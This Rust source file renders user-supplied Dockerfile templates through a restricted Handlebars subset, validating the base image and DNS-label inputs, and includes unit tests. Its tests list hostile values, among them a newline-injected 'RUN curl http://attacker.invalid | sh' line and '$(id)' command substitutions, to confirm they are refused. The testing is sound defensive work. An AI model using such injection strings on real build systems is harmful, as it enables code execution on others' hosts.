//! Rendering a Runtime's Dockerfile template for one branch of one webspace.
//!
//! The template is user-controlled (it is a Runtime resource), so rendering is fenced in:
//!
//! - the template is at most [`MAX_TEMPLATE_BYTES`] long;
//! - it may only use variables (`{{port}}`, or `{{{port}}}`, which is the same here) and
//!   comments: no helpers, blocks, partials or decorators, so rendering is one pass over the
//!   template and the output grows linearly with it (nested `{{#each}}` would make it
//!   exponential, and partials can recurse). Every variable the template names is therefore
//!   evaluated, and checked; conditionals would add nothing, as all four variables are always
//!   set and never empty;
//! - handlebars runs in strict mode, so a variable the template names but nobody defines is an
//!   error rather than an empty string, and without HTML escaping (a Dockerfile is not HTML);
//! - every value the template sees is checked first: `baseImage` is an image reference and
//!   `webspace` / `branch` are DNS labels ([`RenderContext::new`]), so no value can add a line,
//!   a quote or a shell word to the Dockerfile;
//! - the output must contain a `FROM` instruction.
//!
//! The variables are `baseImage`, `port` (the Runtime's), `webspace` and `branch` (the DNS label
//! of the branch). A template that uses `branch` makes the image depend on the branch, not only
//! on the tree; the shipped templates use neither `webspace` nor `branch`, so one tree builds one
//! image whichever branch it is pushed to.

use handlebars::template::{HelperTemplate, Parameter, Template, TemplateElement};
use handlebars::{Handlebars, no_escape};
use serde::Serialize;
use slipway_api::RuntimeSpec;
use slipway_api::names::{self, InvalidName};

/// Largest Dockerfile template accepted, in bytes.
///
/// The template comes from a Runtime resource and is rendered on every push that uses it. A
/// real template is a few dozen lines (the shipped ones are under 1 KiB); 64 KiB leaves room for
/// any of them while bounding the parse and render work, and the size of the Dockerfile sent to
/// Docker, that one resource can cause.
pub const MAX_TEMPLATE_BYTES: usize = 64 * 1024;

/// Longest `spec.baseImage` accepted, in bytes.
///
/// A Docker image reference is at most a 255-character name, a 128-character tag and a
/// 71-character `sha256:` digest, so 512 admits every valid one; together with
/// [`MAX_TEMPLATE_BYTES`] it bounds the rendered Dockerfile.
pub const MAX_BASE_IMAGE_BYTES: usize = 512;

/// Name the template carries in handlebars' own error messages.
const TEMPLATE_NAME: &str = "dockerfileTemplate";

/// Handlebars' built-in helpers. The template check refuses helper calls, and unregistering
/// these means that a bare `{{log}}` or `{{len}}` is a missing variable (an error in strict
/// mode) rather than a helper call.
const BUILTIN_HELPERS: [&str; 17] = [
    "if", "unless", "each", "with", "lookup", "raw", "log", "eq", "ne", "gt", "gte", "lt", "lte",
    "and", "or", "not", "len",
];

/// What a template sees besides the Runtime's own `baseImage` and `port`.
///
/// Both values are DNS labels (1 to 63 characters of `[a-z0-9-]`, not starting or ending with
/// `-`), checked by [`RenderContext::new`]: a webspace's name is one already, and a branch is
/// passed as its label ([`slipway_api::names::branch_label`]), never as pushed. So nothing a
/// pusher chooses can add a line, a quote or a shell word to the Dockerfile.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RenderContext {
    webspace: String,
    branch: String,
}

impl RenderContext {
    /// A context for `branch_label` of `webspace`.
    ///
    /// # Errors
    /// [`InvalidContext`] when either value is not a DNS label, e.g. a branch name passed as
    /// pushed (`feature/x`) instead of as its label.
    pub fn new(
        webspace: impl Into<String>,
        branch_label: impl Into<String>,
    ) -> Result<Self, InvalidContext> {
        let webspace = webspace.into();
        let branch = branch_label.into();
        names::validate_label(&webspace).map_err(|source| InvalidContext {
            field: "webspace",
            source,
        })?;
        names::validate_label(&branch).map_err(|source| InvalidContext {
            field: "branch",
            source,
        })?;
        Ok(Self { webspace, branch })
    }

    /// The webspace's name (`{{webspace}}`).
    pub fn webspace(&self) -> &str {
        &self.webspace
    }

    /// The branch's DNS label (`{{branch}}`).
    pub fn branch(&self) -> &str {
        &self.branch
    }
}

/// A webspace name or branch label that may not reach a template.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("the {field} given to the Dockerfile template is not a DNS label")]
pub struct InvalidContext {
    /// `webspace` or `branch`.
    pub field: &'static str,
    /// What is wrong with the value (it carries the value, escaped).
    #[source]
    pub source: InvalidName,
}

/// Why a Runtime's Dockerfile template did not render.
#[derive(Debug, thiserror::Error)]
pub enum RenderError {
    /// The template is longer than [`MAX_TEMPLATE_BYTES`].
    #[error("the Dockerfile template has {size} bytes, more than the limit of {limit}")]
    TemplateTooLarge {
        /// Size of the template, in bytes.
        size: usize,
        /// [`MAX_TEMPLATE_BYTES`].
        limit: usize,
    },
    /// `spec.baseImage` is not an image reference.
    #[error("the base image `{shown}` is not an image reference: {reason}")]
    BaseImage {
        /// The base image, escaped for display.
        shown: String,
        /// What is wrong with it.
        reason: &'static str,
    },
    /// The template is not valid handlebars.
    #[error("the Dockerfile template does not parse")]
    Parse {
        /// Handlebars' description, with line and column.
        #[source]
        source: Box<handlebars::TemplateError>,
    },
    /// The template uses a handlebars construct outside the allowed subset.
    #[error(
        "the Dockerfile template uses {construct} at line {line}, column {column}; only \
         variables (`{{{{port}}}}`) and comments are allowed"
    )]
    Unsupported {
        /// The construct, e.g. ``the helper `each` ``.
        construct: String,
        /// Line of the construct, from 1.
        line: usize,
        /// Column of the construct, from 1.
        column: usize,
    },
    /// Rendering failed, e.g. the template names a variable that does not exist.
    #[error("the Dockerfile template does not render")]
    Render {
        /// Handlebars' description, with line and column.
        #[source]
        source: Box<handlebars::RenderError>,
    },
    /// The rendered Dockerfile is empty or only whitespace.
    #[error("the rendered Dockerfile is empty")]
    Empty,
    /// The rendered Dockerfile has no `FROM` instruction, so Docker could not build it.
    #[error("the rendered Dockerfile has no `FROM` instruction")]
    NoFrom,
}

/// The values a template sees, named as in the Runtime resource.
#[derive(Serialize)]
#[serde(rename_all = "camelCase")]
struct Values<'a> {
    base_image: &'a str,
    port: u16,
    webspace: &'a str,
    branch: &'a str,
}

/// Renders `runtime`'s Dockerfile template for `context`.
///
/// # Guarantees
/// The result contains a `FROM` instruction, and every substituted value is an image reference
/// (`baseImage`), a port number or a DNS label; see the module documentation for the limits.
///
/// # Errors
/// [`RenderError`]: the template or base image is refused, the template does not parse or
/// render (a missing variable is an error), or the result has no `FROM` instruction.
pub fn render(runtime: &RuntimeSpec, context: &RenderContext) -> Result<String, RenderError> {
    let source = &runtime.dockerfile_template;
    if source.len() > MAX_TEMPLATE_BYTES {
        return Err(RenderError::TemplateTooLarge {
            size: source.len(),
            limit: MAX_TEMPLATE_BYTES,
        });
    }
    check_base_image(&runtime.base_image)?;
    let template =
        Template::compile_with_name(source, TEMPLATE_NAME.to_owned()).map_err(|source| {
            RenderError::Parse {
                source: Box::new(source),
            }
        })?;
    check_constructs(&template)?;

    let mut registry = Handlebars::new();
    registry.set_strict_mode(true);
    registry.register_escape_fn(no_escape);
    for helper in BUILTIN_HELPERS {
        registry.unregister_helper(helper);
    }
    registry.register_template(TEMPLATE_NAME, template);
    let values = Values {
        base_image: &runtime.base_image,
        port: runtime.port,
        webspace: &context.webspace,
        branch: &context.branch,
    };
    let dockerfile =
        registry
            .render(TEMPLATE_NAME, &values)
            .map_err(|source| RenderError::Render {
                source: Box::new(source),
            })?;

    if dockerfile.trim().is_empty() {
        return Err(RenderError::Empty);
    }
    if !dockerfile.lines().any(is_from_instruction) {
        return Err(RenderError::NoFrom);
    }
    Ok(dockerfile)
}

/// Whether `line` is a `FROM image ...` instruction (instructions are case-insensitive).
fn is_from_instruction(line: &str) -> bool {
    let mut words = line.split_whitespace();
    words
        .next()
        .is_some_and(|word| word.eq_ignore_ascii_case("FROM"))
        && words.next().is_some()
}

/// Checks that `base_image` looks like an image reference: `[A-Za-z0-9._:/@-]`, not starting
/// with `-` (which `FROM` would read as a flag), at most [`MAX_BASE_IMAGE_BYTES`].
fn check_base_image(base_image: &str) -> Result<(), RenderError> {
    let fail = |reason| {
        Err(RenderError::BaseImage {
            shown: base_image.escape_default().to_string(),
            reason,
        })
    };
    if base_image.is_empty() {
        return fail("it is empty");
    }
    if base_image.len() > MAX_BASE_IMAGE_BYTES {
        return fail("it is longer than 512 bytes");
    }
    if !base_image
        .bytes()
        .all(|b| b.is_ascii_alphanumeric() || b"._:/@-".contains(&b))
    {
        return fail("only letters, digits and `._:/@-` are allowed");
    }
    if base_image.starts_with('-') {
        return fail("it must not start with `-`");
    }
    Ok(())
}

/// Refuses every construct but raw text, comments and variables.
fn check_constructs(template: &Template) -> Result<(), RenderError> {
    for (index, element) in template.elements.iter().enumerate() {
        let construct = match element {
            TemplateElement::RawString(_) | TemplateElement::Comment(_) => continue,
            TemplateElement::Expression(helper) | TemplateElement::HtmlExpression(helper)
                if is_variable(helper) =>
            {
                continue;
            }
            TemplateElement::Expression(helper) | TemplateElement::HtmlExpression(helper) => {
                format!("the helper `{}`", helper_name(helper))
            }
            TemplateElement::HelperBlock(helper) => format!("the block `#{}`", helper_name(helper)),
            TemplateElement::DecoratorExpression(_) | TemplateElement::DecoratorBlock(_) => {
                "a decorator".to_owned()
            }
            TemplateElement::PartialExpression(_) | TemplateElement::PartialBlock(_) => {
                "a partial".to_owned()
            }
            // A construct a later handlebars adds is outside the subset until reviewed.
            _ => "an unknown construct".to_owned(),
        };
        let (line, column) = template
            .mapping
            .get(index)
            .map_or((0, 0), |position| (position.0, position.1));
        return Err(RenderError::Unsupported {
            construct,
            line,
            column,
        });
    }
    Ok(())
}

/// Whether an expression only names a value: `{{port}}`, not `{{lookup this "port"}}`.
fn is_variable(helper: &HelperTemplate) -> bool {
    helper.params.is_empty()
        && helper.hash.is_empty()
        && !helper.block
        && matches!(helper.name, Parameter::Path(_) | Parameter::Name(_))
}

fn helper_name(helper: &HelperTemplate) -> &str {
    helper.name.as_name().unwrap_or("(subexpression)")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn spec(template: &str) -> RuntimeSpec {
        RuntimeSpec {
            dockerfile_template: template.to_owned(),
            base_image: "registry.test:5000/base/busybox:1.36@sha256:0123abcd".to_owned(),
            port: 8080,
            description: None,
        }
    }

    fn context() -> RenderContext {
        RenderContext::new("blog", "feature-x-1a2b3c4d").expect("both are DNS labels")
    }

    fn render_template(template: &str) -> Result<String, RenderError> {
        render(&spec(template), &context())
    }

    #[test]
    fn every_variable_is_substituted() {
        let dockerfile = render_template(
            "FROM {{baseImage}}\nLABEL webspace={{webspace}} branch={{{branch}}}\nEXPOSE {{port}}\n",
        )
        .expect("renders");
        assert_eq!(
            dockerfile,
            "FROM registry.test:5000/base/busybox:1.36@sha256:0123abcd\n\
             LABEL webspace=blog branch=feature-x-1a2b3c4d\nEXPOSE 8080\n"
        );
    }

    #[test]
    fn comments_and_triple_braces_are_allowed() {
        let dockerfile = render_template("{{!-- a comment --}}FROM {{{baseImage}}}\n{{! short }}")
            .expect("renders");
        assert_eq!(
            dockerfile,
            "FROM registry.test:5000/base/busybox:1.36@sha256:0123abcd\n"
        );
    }

    #[test]
    fn a_missing_variable_is_an_error_in_strict_mode() {
        let error = render_template("FROM {{baseImage}}\nENV NODE_VERSION={{nodeVersion}}\n")
            .expect_err("nodeVersion is not defined");
        assert!(matches!(error, RenderError::Render { .. }), "{error:?}");
        let cause = std::error::Error::source(&error)
            .expect("has a cause")
            .to_string();
        assert!(cause.contains("nodeVersion"), "{cause}");
    }

    #[test]
    fn a_bare_builtin_helper_name_is_a_missing_variable() {
        for name in ["log", "len", "lookup", "each", "if", "raw"] {
            let error = render_template(&format!("FROM {{{{baseImage}}}}\nRUN {{{{{name}}}}}\n"))
                .expect_err("helper is unregistered");
            assert!(
                matches!(error, RenderError::Render { .. }),
                "{name}: {error:?}"
            );
        }
    }

    #[test]
    fn a_template_without_from_is_refused() {
        for template in ["RUN echo {{port}}\n", "# FROM {{baseImage}}\n", "FROM\n"] {
            let error = render_template(template).expect_err("no FROM instruction");
            assert!(
                matches!(error, RenderError::NoFrom),
                "{template:?}: {error:?}"
            );
        }
        let lower = render_template("from {{baseImage}}\n").expect("instructions ignore case");
        assert!(lower.starts_with("from registry.test"));
    }

    #[test]
    fn an_empty_rendering_is_refused() {
        for template in ["", "  \n\t\n", "{{!-- nothing --}}\n"] {
            let result = render_template(template);
            assert!(
                matches!(result, Err(RenderError::Empty)),
                "{template:?}: {result:?}"
            );
        }
    }

    #[test]
    fn an_oversized_template_is_refused() {
        let template = format!("FROM {{{{baseImage}}}}\n{}", "#".repeat(MAX_TEMPLATE_BYTES));
        let error = render_template(&template).expect_err("too large");
        assert!(
            matches!(error, RenderError::TemplateTooLarge { size, limit }
                if size == template.len() && limit == MAX_TEMPLATE_BYTES),
            "{error:?}"
        );
        let at_limit = format!(
            "FROM {{{{baseImage}}}}\n{}",
            "#".repeat(MAX_TEMPLATE_BYTES - 20)
        );
        assert!(at_limit.len() <= MAX_TEMPLATE_BYTES);
        render_template(&at_limit).expect("a template at the limit renders");
    }

    #[test]
    fn constructs_outside_the_subset_are_refused() {
        for template in [
            "FROM x\n{{#each this}}{{#each ../this}}{{@key}}{{/each}}{{/each}}",
            "FROM x\n{{#with this}}{{port}}{{/with}}",
            "FROM x\n{{lookup this \"port\"}}",
            "FROM x\n{{log \"hello\"}}",
            "FROM x\n{{len baseImage}}",
            "FROM x\n{{port (lookup this \"port\")}}",
            "FROM x\n{{#if (eq port 8080)}}y{{/if}}",
            "FROM x\n{{#if nodeVersion}}y{{/if}}",
            "FROM x\n{{#unless port}}y{{else}}z{{/unless}}",
            "FROM x\n{{#port}}y{{/port}}",
            "FROM x\n{{port x=1}}",
            "FROM x\n{{#*inline \"a\"}}{{> a}}{{> a}}{{/inline}}{{> a}}",
            "FROM x\n{{> dockerfileTemplate}}",
            "FROM x\n{{#> layout}}y{{/layout}}",
            "FROM x\n{{{{raw}}}}{{port}}{{{{/raw}}}}",
        ] {
            let result = render_template(template);
            assert!(
                matches!(result, Err(RenderError::Unsupported { .. })),
                "{template:?}: {result:?}"
            );
        }
        let error = render_template("FROM x\n\n  {{#each this}}{{/each}}").expect_err("refused");
        assert!(
            matches!(
                error,
                RenderError::Unsupported {
                    line: 3,
                    column: 3,
                    ..
                }
            ),
            "{error:?}"
        );
        assert_eq!(
            error.to_string(),
            "the Dockerfile template uses the block `#each` at line 3, column 3; only variables \
             (`{{port}}`) and comments are allowed"
        );
    }

    #[test]
    fn a_template_that_does_not_parse_is_refused() {
        let error = render_template("FROM {{baseImage}\n").expect_err("unclosed");
        assert!(matches!(error, RenderError::Parse { .. }), "{error:?}");
    }

    #[test]
    fn hostile_context_values_are_refused() {
        for hostile in [
            "",
            "main\nRUN curl http://attacker.invalid | sh",
            "feature/x",
            "Feature",
            "a b",
            "a;b",
            "$(id)",
            "`id`",
            "a\"b",
            "{{baseImage}}",
            "-rf",
            "trailing-",
            "ümlaut",
            "a\0b",
            &"x".repeat(64),
        ] {
            let branch = RenderContext::new("blog", hostile).expect_err("hostile branch");
            assert_eq!(branch.field, "branch", "{hostile:?}");
            let webspace = RenderContext::new(hostile, "main").expect_err("hostile webspace");
            assert_eq!(webspace.field, "webspace", "{hostile:?}");
        }
        let context = RenderContext::new("blog", "b-0123abcd").expect("labels are accepted");
        assert_eq!(
            (context.webspace(), context.branch()),
            ("blog", "b-0123abcd")
        );
    }

    #[test]
    fn every_branch_label_is_accepted() {
        for branch in ["main", "feature/X", "../../etc", "!!!", &"long".repeat(40)] {
            let label = names::branch_label(branch);
            RenderContext::new("blog", label).expect("branch_label yields DNS labels");
        }
    }

    #[test]
    fn hostile_base_images_are_refused() {
        for base_image in [
            "",
            "busybox\nRUN curl http://attacker.invalid | sh",
            "busybox AS build",
            "--platform=linux/arm64",
            "busybox:{{port}}",
            "$BASE",
            &"a".repeat(MAX_BASE_IMAGE_BYTES + 1),
        ] {
            let runtime = RuntimeSpec {
                base_image: base_image.to_owned(),
                ..spec("FROM {{baseImage}}\n")
            };
            let result = render(&runtime, &context());
            assert!(
                matches!(result, Err(RenderError::BaseImage { .. })),
                "{base_image:?}: {result:?}"
            );
        }
    }
}
